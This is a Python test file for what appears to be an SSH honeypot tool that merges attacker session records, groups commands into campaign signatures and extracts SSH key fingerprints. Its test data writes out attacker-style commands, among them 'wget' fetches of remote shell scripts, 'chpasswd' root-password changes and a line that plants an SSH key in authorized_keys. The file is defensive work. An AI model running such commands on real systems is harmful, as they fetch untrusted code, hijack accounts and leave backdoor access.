"""What sessions did, whatever way it is put together."""

import tracemalloc
from datetime import datetime, timedelta
from hashlib import sha256

import pytest
from hypothesis import given
from hypothesis import strategies as st

from snapshots.domain.session.behaviour import Behaviour, Trait, Traits, command, login
from snapshots.domain.session.command import LONGEST_COMMAND, key_fingerprints
from tests.strategies import NOON, moments, traits

KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIKLZcQRgqFpJoTw+fwkPGVTpbmcEXr1dP/XoOZ7Yx219"
FINGERPRINT = "SHA256:VHgGLYNP8W0oPeVaF0sb2BaKdZUggrZ2FYecnlp00pE"
"""What ssh-keygen -l prints of it."""

SECOND = timedelta(seconds=1)
timed_traits = st.lists(st.tuples(moments, traits.map(lambda trait: (trait,))), max_size=12)
many = st.lists(
    st.tuples(st.integers(0, 300), st.sampled_from([Trait.COMMAND, Trait.KEY, Trait.URL]), st.integers(0, 90)),
    min_size=60,
    max_size=200,
)


@given(timed_traits, timed_traits, timed_traits)
def test_parts_merge_in_any_order_to_the_same(
    one: list[tuple[datetime, Traits]], two: list[tuple[datetime, Traits]], three: list[tuple[datetime, Traits]]
) -> None:
    """A session is read in parts, in any order, and some of them twice."""
    a, b, c = (Behaviour.of(part) for part in (one, two, three))
    whole = Behaviour.of([*one, *two, *three])

    assert a.merge(b).merge(c) == a.merge(b.merge(c)) == c.merge(a).merge(b) == whole
    assert whole.merge(a) == whole


@given(many, st.integers(0, 200))
def test_the_retained_traits_do_not_depend_on_where_a_log_was_split(
    found: list[tuple[int, Trait, int]], cut: int
) -> None:
    """Of each trait only the earliest values are retained."""
    events: list[tuple[datetime, Traits]] = [(NOON + n * SECOND, ((trait, str(text)),)) for n, trait, text in found]
    whole = Behaviour.of(events)

    assert Behaviour.of(events[cut:]).merge(Behaviour.of(events[:cut])) == whole
    assert all(len(pairs) <= trait.most and list(pairs) == sorted(pairs) for trait, pairs in whole.values.items())


def test_the_first_login_and_any_success_are_retained() -> None:
    """With its time, so that a part read later can still precede it."""
    late = Behaviour.of([(NOON + SECOND, login("root", "x", succeeded=True))])
    early = Behaviour.of([(NOON, login("admin", None, succeeded=False))])
    kept = Behaviour.of([(NOON, login("root", "secret", succeeded=False, kept="secret"))])

    both = late.merge(early)
    assert (both.username, both.password_hash, both.password, both.login_succeeded) == ("admin", None, None, True)
    assert late.password_hash == sha256(b"x").hexdigest()
    assert (early.login_succeeded, Behaviour().login_succeeded, Behaviour().username) == (False, None, None)
    assert kept.password == "secret"


def test_commands_are_stored_in_order_with_normalized_white_space() -> None:
    """A long command has a hash, so that two with the same beginning stay different."""
    behaviour = Behaviour.of([(NOON + SECOND, command(" ls \t -la\n")), (NOON, command("id")), (NOON, command(" \n"))])
    long = [Behaviour.of([(NOON, command("x" * LONGEST_COMMAND + end))]) for end in "ab"]

    assert behaviour.texts(Trait.COMMAND) == ("id", "ls -la")
    assert behaviour.first(Trait.COMMAND) == "id"
    assert behaviour.first(Trait.URL) is None
    assert [len(each.texts(Trait.COMMAND)[0]) for each in long] == [LONGEST_COMMAND] * 2
    assert long[0].command_signature != long[1].command_signature
    assert command("x" * LONGEST_COMMAND * 2 + "é") == command("x" * LONGEST_COMMAND * 2 + "é")


def signature(*commands: str) -> str | None:
    return Behaviour.of((NOON + n * SECOND, command(text)) for n, text in enumerate(commands)).command_signature


def test_a_campaign_has_one_signature() -> None:
    """Though each session fetches from another address and sets another password."""
    assert signature("wget http://1.2.3.4/a.sh", 'id; echo "root:Xy12"|chpasswd|bash') == signature(
        "wget  http://5.6.7.88/a.sh", "id; echo root:abcd   |  chpasswd |bash"
    )
    assert signature('echo -e "a\\nb\\nb"|passwd') != signature('echo -e "a\\nb\\nb"|bash')
    assert signature("ls|x", "y|chpasswd") != signature("id|x", "y|chpasswd")
    dropper = "wget http://1.2.3.4/a.sh; " + "x" * LONGEST_COMMAND
    assert signature(dropper) == signature(dropper.replace("1.2.3.4", "100.100.100.100")) != signature(dropper + "y")
    assert signature("wget http://1.2.3.4/a.sh") != signature("wget http://1.2.3.4/b.sh")
    assert signature("a", "b") != signature("b", "a")
    assert signature() is None


@pytest.mark.parametrize(
    "text",
    [
        f'cd ~ && rm -rf .ssh && echo "ssh-ed25519 {KEY} x">>.ssh/authorized_keys && chmod -R go= ~/.ssh',
        f"ssh-ed25519 {KEY}",
        f"ssh-ed25519\t{KEY}",
        f"ssh-ed25519 {KEY}; echo ssh-ed25519 {KEY}",
    ],
)
def test_the_fingerprint_of_a_key_in_a_command_is_the_one_of_ssh_keygen(text: str) -> None:
    """It identifies a campaign whose other behavior varies."""
    assert set(key_fingerprints(text)) == {FINGERPRINT}
    assert Behaviour.of([(NOON, command(text))]).texts(Trait.KEY) == (FINGERPRINT,)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "ssh-rsa",
        f"ssh-rsa {KEY[:20]}",
        f"ssh-dsa1024 {KEY}",
        f"ssh-rsa {KEY}",
        "ssh-rsa " + "A" * 40,
        f"ssh-ed25519 {KEY[:41]}",
    ],
)
def test_text_that_is_not_a_key_has_no_fingerprint(text: str) -> None:
    """It raises no error: every text comes from an attacker."""
    assert list(key_fingerprints(text)) == []


def test_long_passwords_are_not_kept_in_memory() -> None:
    """Attackers send passwords of any length: thousands of long ones would fill the memory."""
    tracemalloc.start()
    try:
        for n in range(20):
            login("root", f"{n}" * 500_000, succeeded=False)
        assert tracemalloc.get_traced_memory()[0] < 500_000
    finally:
        tracemalloc.stop()
